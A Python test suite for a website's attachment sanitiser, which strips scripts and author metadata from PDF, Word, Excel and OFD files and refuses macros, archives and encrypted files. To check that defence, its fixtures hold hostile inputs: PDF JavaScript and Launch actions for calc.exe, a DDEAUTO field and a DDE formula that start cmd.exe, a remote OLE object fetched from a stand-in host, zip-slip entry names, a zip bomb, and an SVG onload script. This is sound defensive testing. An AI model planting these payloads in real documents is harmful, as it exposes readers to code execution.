"""Hostile attachments: PDF scripts and embedded files stripped, macros and archives refused, properties removed."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import olefile
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from assets.attachments import AttachmentError, publish_attachment
from content_model import documents_zip
from content_model.documents import CLEANERS, Refused, clean_document, inspect_document
from content_model.schema import ATTACHMENT_SUFFIXES
from content_model.site import Options, load_site
from content_model.times import parse_time
from tests.sites import PROJECT, article, write_site
from tests.unit.ole_files import ole_file, summary_information, word_stream

SAMPLE_PDF = PROJECT / "content/articles/notices/xuanchuan-gongzuo-yaodian/xuanchuan-gongzuo-yaodian.pdf"
NOW = parse_time("2020-07-25 12:00")
# What must never reach output/: the names of removed things, as written into the hostile files.
MARKERS = (b"HOSTILE", b"payload.exe", b"calc.exe")
ACTIVE_KEYS = {"/JS", "/JavaScript", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent", "/AF"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}


def _name(text: str) -> NameObject:
    return NameObject(text)


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value if not isinstance(value, str) else TextStringObject(value)
    return action


def _annotation(writer: PdfWriter, subtype: str, **entries: object) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(30)]),
        }
    )
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value
    page = writer.pages[0]
    if "/Annots" not in page:
        page[_name("/Annots")] = ArrayObject()
    page["/Annots"].append(writer._add_object(annotation))


def hostile_pdf(path: Path) -> None:
    """The sample notice with every kind of active content a PDF reader runs or opens."""
    writer = PdfWriter(clone_from=SAMPLE_PDF)
    root = writer._root_object
    scripts = ArrayObject([TextStringObject("init"), _action("/JavaScript", JS="app.alert('HOSTILE name tree');")])
    root[_name("/Names")] = DictionaryObject({_name("/JavaScript"): DictionaryObject({_name("/Names"): scripts})})
    root[_name("/OpenAction")] = writer._add_object(_action("/JavaScript", JS="app.alert('HOSTILE open');"))
    root[_name("/AA")] = DictionaryObject({_name("/WC"): _action("/JavaScript", JS="app.alert('HOSTILE close');")})
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _action("/JavaScript", JS="HOSTILE page open")})
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp>HOSTILE xfa</xdp:xdp>")
    root[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(xfa)}
    )
    writer.add_attachment("payload.exe", b"MZ HOSTILE embedded program")
    _annotation(writer, "/Link", A=_action("/URI", URI=TextStringObject("https://www.hast.net.cn/")))
    _annotation(writer, "/Link", A=_action("/Launch", F=TextStringObject("calc.exe")))
    _annotation(writer, "/Link", A=_action("/URI", URI=TextStringObject("file:///etc/HOSTILE")))
    _annotation(writer, "/Link", A=_action("/GoToR", F=TextStringObject("HOSTILE-other.pdf"), D=ArrayObject()))
    _annotation(writer, "/Link", A=_action("/SubmitForm", F=TextStringObject("https://HOSTILE.example/")))
    _annotation(writer, "/Link", A=_action("/ImportData", F=TextStringObject("HOSTILE.fdf")))
    chained = _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]))
    chained[_name("/Next")] = _action("/JavaScript", JS="HOSTILE chained")
    _annotation(writer, "/Link", A=chained)
    _annotation(writer, "/FileAttachment", FS=TextStringObject("HOSTILE attached"))
    _annotation(
        writer, "/RichMedia", RichMediaContent=DictionaryObject({_name("/Assets"): TextStringObject("HOSTILE")})
    )
    _annotation(writer, "/Widget", AA=DictionaryObject({_name("/K"): _action("/JavaScript", JS="HOSTILE keystroke")}))
    with path.open("wb") as handle:
        writer.write(handle)


def _reachable(reader: PdfReader) -> list[DictionaryObject]:
    """Every dictionary the document can reach from its trailer."""
    found, seen, stack = [], set(), [reader.trailer]
    while stack:
        node = stack.pop()
        if hasattr(node, "idnum"):
            if node.idnum in seen:
                continue
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            found.append(node)
            stack.extend(node.values())
        elif isinstance(node, ArrayObject):
            stack.extend(node)
    return found


def _active(reader: PdfReader) -> set[str]:
    names = set()
    for node in _reachable(reader):
        names |= ACTIVE_KEYS & set(node.keys())
        if node.get("/S") in ACTIVE_ACTIONS:
            names.add(str(node["/S"]))
        if node.get("/Subtype") in ("/FileAttachment", "/RichMedia"):
            names.add(str(node["/Subtype"]))
        if node.get("/S") == "/URI" and not str(node.get("/URI")).startswith("http"):
            names.add("non-web URI")
    return names


def test_a_pdf_loses_every_script_action_and_embedded_file_and_keeps_its_text_and_web_links(tmp_path: Path) -> None:
    source, target = tmp_path / "notice.pdf", tmp_path / "out/notice.pdf"
    hostile_pdf(source)
    original = source.read_bytes()
    before = PdfReader(source)
    assert _active(before) >= {"/JS", "/JavaScript", "/AA", "/EmbeddedFiles", "/XFA", "/Launch", "/GoToR"}
    publish_attachment(source, target)
    after = PdfReader(target)
    assert _active(after) == set()
    data = target.read_bytes()
    assert not [marker for marker in MARKERS if marker in data]
    assert "/OpenAction" not in after.trailer["/Root"]
    assert len(after.pages) == len(before.pages)
    assert after.pages[0].extract_text() == before.pages[0].extract_text()
    assert "2020年河南省科协宣传工作要点" in after.pages[0].extract_text()
    links = [a.get_object() for a in after.pages[0]["/Annots"]]
    uris = [str(a["/A"]["/URI"]) for a in links if "/A" in a and a["/A"].get("/S") == "/URI"]
    assert uris == ["https://www.hast.net.cn/"], "a link to a web page stays"
    assert any(a.get("/A", {}).get("/S") == "/GoTo" for a in links), "a link inside the document stays"
    assert not after.metadata and "/Metadata" not in after.trailer["/Root"]
    assert source.read_bytes() == original, "the file in content/ is never changed"


def test_the_checker_warns_that_active_content_will_be_removed_naming_file_line_and_field(tmp_path: Path) -> None:
    root = tmp_path / "site"
    body = "通知正文。\n\n[附件下载](extra.pdf)\n"
    files = {
        "content/articles/notices/tongzhi/index.md": article(
            "关于开展宣传工作的通知", "2020-07-20 09:30", body, attachments="[{file: notice.pdf, title: 工作要点}]"
        ),
    }
    write_site(root, files)
    hostile_pdf(root / "content/articles/notices/tongzhi/notice.pdf")
    hostile_pdf(root / "content/articles/notices/tongzhi/extra.pdf")
    site = load_site(root / "content", root, Options(strict=True, now=NOW))
    warned = [p for p in site.problems.warnings if p.code == "attachment-code-removed"]
    assert [(p.field, p.line) for p in warned] == [("attachments[0].file", 6), ("body", 10)]
    first = warned[0]
    assert first.file == "content/articles/notices/tongzhi/index.md"
    assert "notice.pdf" in first.message_zh and "脚本（JavaScript）" in first.message_zh
    assert "scripts (JavaScript)" in first.message_en and "embedded files" in first.message_en
    assert not site.problems.errors


def _encrypted_pdf(path: Path) -> None:
    writer = PdfWriter(clone_from=SAMPLE_PDF)
    writer.encrypt(user_password="", owner_password="secret")
    with path.open("wb") as handle:
        writer.write(handle)


def test_an_encrypted_pdf_is_refused_by_the_checker_and_the_build(tmp_path: Path) -> None:
    source = tmp_path / "locked.pdf"
    _encrypted_pdf(source)
    with pytest.raises(Refused) as refused:
        inspect_document(source)
    assert refused.value.code == "attachment-encrypted"
    with pytest.raises(AttachmentError):
        publish_attachment(source, tmp_path / "out/locked.pdf")
    assert not (tmp_path / "out/locked.pdf").exists()


# Word and Excel 2007+


def _docx(path: Path, **extra: bytes) -> None:
    """A .docx with a creator, an editor and a company; `extra` adds or replaces parts."""
    document = docx.Document()
    document.add_paragraph("关于报送宣传信息的通知正文")
    document.core_properties.author = "ZHANG-SAN-CREATOR"
    document.core_properties.last_modified_by = "LI-SI-EDITOR"
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["docProps/app.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/extended-properties"><Company>COMPANY-NAME</Company><Manager>MANAGER-NAME</Manager></Properties>'
    )
    parts["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Reviewer"><vt:lpwstr>CUSTOM-NAME'
        b"</vt:lpwstr></property></Properties>"
    )
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'custom-properties" Target="docProps/custom.xml"/></Relationships>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'custom-properties+xml"/></Types>',
    )
    parts.update(extra)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_docx_loses_core_app_and_custom_properties_and_keeps_its_text(tmp_path: Path) -> None:
    source, target = tmp_path / "a.docx", tmp_path / "out/a.docx"
    _docx(source)
    publish_attachment(source, target)
    with zipfile.ZipFile(target) as archive:
        data = b"".join(archive.read(name) for name in archive.namelist())
        custom = archive.read("docProps/custom.xml")
    for secret in (b"ZHANG-SAN-CREATOR", b"LI-SI-EDITOR", b"COMPANY-NAME", b"MANAGER-NAME", b"CUSTOM-NAME"):
        assert secret not in data, secret
    assert b"<property" not in custom
    assert b"dcterms:created" not in data and b"dcterms:modified" not in data, "no dates either"
    document = docx.Document(str(target))
    assert document.paragraphs[0].text == "关于报送宣传信息的通知正文"
    assert document.core_properties.author == ""


SETTINGS_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="file:///C:/Users/ZHANG-SAN/AppData/Normal.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def test_a_docx_loses_its_template_path(tmp_path: Path) -> None:
    source, target = tmp_path / "a.docx", tmp_path / "out/a.docx"
    with zipfile.ZipFile(io.BytesIO(_docx_bytes(tmp_path))) as archive:
        settings = archive.read("word/settings.xml")
    settings = settings.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
    _docx(source, **{"word/_rels/settings.xml.rels": SETTINGS_RELS, "word/settings.xml": settings})
    publish_attachment(source, target)
    with zipfile.ZipFile(target) as archive:
        assert b"ZHANG-SAN" not in archive.read("word/_rels/settings.xml.rels")
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
    assert docx.Document(str(target)).paragraphs[0].text == "关于报送宣传信息的通知正文"


def _docx_bytes(tmp_path: Path) -> bytes:
    path = tmp_path / "plain.docx"
    _docx(path)
    return path.read_bytes()


CONTENT_TYPES_MACRO = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-'
    b'types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
)
REMOTE_OBJECT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/oleObject" Target="http://HOSTILE.example/x.sct" TargetMode="External"/></Relationships>'
)
DDE_FIELD = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
    b'2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
    b'<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p></w:body>'
    b"</w:document>"
)


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}, "macros (VBA)"),
        ({"word/vbaProject.bin": b"x", "[Content_Types].xml": CONTENT_TYPES_MACRO}, "macros (VBA)"),
        ({"word/activeX/activeX1.bin": b"x"}, "ActiveX"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "embedded program objects"),
        ({"word/_rels/document.xml.rels": REMOTE_OBJECT_RELS}, "content loaded from outside"),
        ({"word/document.xml": DDE_FIELD}, "DDE"),
    ],
    ids=["vba", "macro-content-type", "activex", "ole-object", "remote-object", "dde-split-across-runs"],
)
def test_office_files_with_code_are_refused(tmp_path: Path, extra: dict[str, bytes], words: str) -> None:
    source = tmp_path / "a.docx"
    _docx(source, **extra)
    with pytest.raises(Refused) as refused:
        inspect_document(source)
    assert refused.value.code == "attachment-code" and words in refused.value.finding.en
    with pytest.raises(AttachmentError):
        publish_attachment(source, tmp_path / "out/a.docx")
    assert not (tmp_path / "out/a.docx").exists()


XLSX_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.worksheet+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.'
    b'openxmlformats-package.core-properties+xml"/></Types>',
    "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="http://schemas.'
    b'openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
    b"</Relationships>",
    "docProps/core.xml": b'<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.'
    b'openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    b"<dc:creator>ZHANG-SAN-CREATOR</dc:creator></cp:coreProperties>",
    "xl/workbook.xml": b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    b'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent><mc:Choice '
    b'Requires="x15"><x15ac:absPath url="C:\\Users\\ZHANG-SAN\\Desktop\\" xmlns:x15ac="http://schemas.microsoft.'
    b'com/office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent><sheets><sheet name="SIGN-UP" '
    b'sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
    b'org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    "xl/worksheets/sheet1.xml": b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
    b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>NAME</t>'
    b"</is></c></row></sheetData></worksheet>",
}


def _zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_an_xlsx_loses_its_creator_and_saved_folder_and_keeps_its_cells(tmp_path: Path) -> None:
    source, target = tmp_path / "a.xlsx", tmp_path / "out/a.xlsx"
    _zip(source, XLSX_PARTS)
    publish_attachment(source, target)
    with zipfile.ZipFile(target) as archive:
        data = b"".join(archive.read(name) for name in archive.namelist())
        assert archive.namelist() == list(XLSX_PARTS)
        assert archive.read("xl/worksheets/sheet1.xml") == XLSX_PARTS["xl/worksheets/sheet1.xml"]
        assert b"SIGN-UP" in archive.read("xl/workbook.xml")
    assert b"ZHANG-SAN" not in data


def test_a_dde_formula_in_a_workbook_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "a.xlsx"
    sheet = b"<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>"
    _zip(source, {**XLSX_PARTS, "xl/worksheets/sheet1.xml": sheet})
    with pytest.raises(Refused) as refused:
        inspect_document(source)
    assert refused.value.code == "attachment-code"


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    "entries",
    [
        [("../../outside.txt", b"x")],
        [("/etc/passwd", b"x")],
        [("word\\..\\..\\x", b"x")],
        [("word/document.xml", b"a"), ("WORD/document.xml", b"b")],
    ],
    ids=["dot-dot", "absolute", "backslash", "duplicate"],
)
def test_a_package_whose_entry_names_leave_it_is_refused(tmp_path: Path, entries: list[tuple[str, bytes]]) -> None:
    source = tmp_path / "a.docx"
    _docx(source)
    with zipfile.ZipFile(source, "a") as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data)
    with pytest.raises(Refused) as refused:
        inspect_document(source)
    assert refused.value.code == "attachment-unreadable"


def test_a_zip_bomb_disguised_as_a_document_is_refused_without_expanding_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(documents_zip, "MAX_EXPANDED", 4 * 1024 * 1024)
    source = tmp_path / "a.docx"
    _docx(source, **{"word/media/zeros.bin": b"\0" * (8 * 1024 * 1024)})
    assert source.stat().st_size < 200_000
    with pytest.raises(Refused) as refused:
        inspect_document(source)
    assert refused.value.code == "attachment-unreadable" and "expands past" in refused.value.finding.en


def test_an_office_file_nested_in_a_document_is_cleaned_too(tmp_path: Path) -> None:
    inner = tmp_path / "inner.xlsx"
    _zip(inner, XLSX_PARTS)
    source, target = tmp_path / "a.docx", tmp_path / "out/a.docx"
    _docx(source, **{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner.read_bytes()})
    publish_attachment(source, target)
    with zipfile.ZipFile(target) as archive:
        embedded = archive.read("word/embeddings/Microsoft_Excel_Worksheet.xlsx")
    with zipfile.ZipFile(io.BytesIO(embedded)) as archive:
        assert b"ZHANG-SAN" not in b"".join(archive.read(name) for name in archive.namelist())


# Archives, OFD and the old formats


def _notice(tmp_path: Path, attachment: str) -> Path:
    """A site with one notice that lists `attachment`; the folder the attachment goes in."""
    root = tmp_path / "site"
    notice = article("通知", "2020-07-20 09:30", "正文。", attachments=f"[{{file: {attachment}, title: 附件}}]")
    write_site(root, {"content/articles/notices/n/index.md": notice})
    return root / "content/articles/notices/n"


def test_an_archive_is_refused_with_its_own_message(tmp_path: Path) -> None:
    folder = _notice(tmp_path, "cailiao.zip")
    root = tmp_path / "site"
    _zip(folder / "cailiao.zip", {"a.txt": b"x"})
    site = load_site(root / "content", root, Options(strict=True, now=NOW))
    (problem,) = site.problems.errors
    assert (problem.code, problem.field, problem.line) == ("attachment-archive", "attachments[0].file", 6)
    assert "压缩包" in problem.message_zh and "archive" in problem.message_en
    with pytest.raises(AttachmentError):
        publish_attachment(folder / "cailiao.zip", tmp_path / "out/cailiao.zip")


OFD_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" '
    'DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>4c3a0b2e</ofd:DocID><ofd:Title>通知</ofd:Title>'
    "<ofd:Author>ZHANG-SAN-AUTHOR</ofd:Author><ofd:Creator>OFD-WRITER</ofd:Creator><ofd:CreationDate>2020-03-18"
    '</ofd:CreationDate><ofd:CustomDatas><ofd:CustomData Name="部门">CUSTOM-DEPT</ofd:CustomData>'
    "</ofd:CustomDatas></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
).encode()


def test_an_ofd_loses_its_document_information_and_keeps_its_structure(tmp_path: Path) -> None:
    source, target = tmp_path / "a.ofd", tmp_path / "out/a.ofd"
    _zip(source, {"OFD.xml": OFD_XML, "Doc_0/Document.xml": b"<ofd:Document/>"})
    publish_attachment(source, target)
    with zipfile.ZipFile(target) as archive:
        ofd = archive.read("OFD.xml").decode()
        assert archive.read("Doc_0/Document.xml") == b"<ofd:Document/>"
    assert "ZHANG-SAN" not in ofd and "OFD-WRITER" not in ofd and "CUSTOM-DEPT" not in ofd and "2020-03-18" not in ofd
    assert "<ofd:DocID>4c3a0b2e</ofd:DocID>" in ofd and "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>" in ofd


def test_an_ofd_with_files_attached_inside_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "a.ofd"
    _zip(source, {"OFD.xml": OFD_XML, "Doc_0/Attachs/Attachments.xml": b"<x/>", "Doc_0/Attachs/run.exe": b"MZ"})
    with pytest.raises(Refused) as refused:
        inspect_document(source)
    assert refused.value.code == "attachment-code"


def test_an_old_word_file_loses_its_summary_and_macros_or_passwords_are_refused(tmp_path: Path) -> None:
    source, target = tmp_path / "a.doc", tmp_path / "out/a.doc"
    source.write_bytes(
        ole_file(
            {
                "WordDocument": word_stream(),
                "\x05SummaryInformation": summary_information("ZHANG-SAN-AUTHOR"),
                "ObjectPool/\x05SummaryInformation": summary_information("EMBEDDED-AUTHOR"),
            }
        )
    )
    assert olefile.OleFileIO(str(source)).get_metadata().author == b"ZHANG-SAN-AUTHOR"
    publish_attachment(source, target)
    data = target.read_bytes()
    assert b"ZHANG-SAN-AUTHOR" not in data and b"EMBEDDED-AUTHOR" not in data
    with olefile.OleFileIO(str(target)) as ole:
        assert ole.get_metadata().author is None
        assert ole.openstream("WordDocument").read(12) == word_stream()
    macro = tmp_path / "m.doc"
    macro.write_bytes(ole_file({"WordDocument": word_stream(), "Macros/VBA/dir": b"x"}))
    locked = tmp_path / "l.doc"
    locked.write_bytes(ole_file({"WordDocument": word_stream(encrypted=True)}))
    renamed = tmp_path / "r.doc"
    renamed.write_bytes(b"{\\rtf1 {\\object\\objemb HOSTILE}}")
    codes = []
    for path in (macro, locked, renamed):
        with pytest.raises(Refused) as refused:
            inspect_document(path)
        codes.append(refused.value.code)
    assert codes == ["attachment-code", "attachment-encrypted", "attachment-unreadable"]


def test_old_formats_are_published_with_a_warning_that_traces_remain(tmp_path: Path) -> None:
    folder = _notice(tmp_path, "biao.doc")
    root = tmp_path / "site"
    (folder / "biao.doc").write_bytes(ole_file({"WordDocument": word_stream()}))
    site = load_site(root / "content", root, Options(strict=True, now=NOW))
    assert [p.code for p in site.problems.warnings] == ["attachment-old-format"]
    assert not site.problems.errors


def test_a_body_may_not_link_to_a_page_or_script_beside_it(tmp_path: Path) -> None:
    root = tmp_path / "site"
    body = "正文。\n\n[打开](page.html) [图](tu.svg) [表](biao.xlsx)\n"
    write_site(root, {"content/articles/news/n/index.md": article("新闻", "2020-07-20 09:30", body)})
    folder = root / "content/articles/news/n"
    (folder / "page.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (folder / "tu.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
    _zip(folder / "biao.xlsx", XLSX_PARTS)
    site = load_site(root / "content", root, Options(strict=True, now=NOW))
    refused = [(p.code, p.field, p.line) for p in site.problems.errors]
    assert refused == [("link-file-type", "body", 9), ("link-file-type", "body", 9)]
    assert "page.html" in site.problems.errors[0].message_zh
    with pytest.raises(AttachmentError):
        publish_attachment(folder / "page.html", tmp_path / "out/page.html")
    assert not (tmp_path / "out/page.html").exists()


def test_every_accepted_suffix_has_a_cleaner() -> None:
    assert set(CLEANERS) == set(ATTACHMENT_SUFFIXES)


def test_a_damaged_pdf_is_refused_as_unreadable(tmp_path: Path) -> None:
    source = tmp_path / "a.pdf"
    source.write_bytes(SAMPLE_PDF.read_bytes()[:400])
    with pytest.raises(Refused) as refused:
        clean_document(source, tmp_path / "b.pdf")
    assert refused.value.code == "attachment-unreadable"
